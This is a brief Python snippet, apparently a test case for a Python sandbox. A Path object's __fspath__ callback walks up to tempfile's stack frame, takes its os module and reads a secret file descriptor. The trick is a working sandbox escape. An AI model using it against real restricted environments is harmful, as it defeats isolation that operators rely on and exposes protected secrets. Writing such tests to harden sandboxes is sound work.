# A callback of library code finds os in the globals of its caller.
# breach: secret
import sys, tempfile
class Path:
    def __fspath__(self):
        found.append(sys._getframe(1).f_globals["_os"].pread(SECRET_FD, 100, 0))
        return "x"
found = []
tempfile._infer_return_type(Path())
found
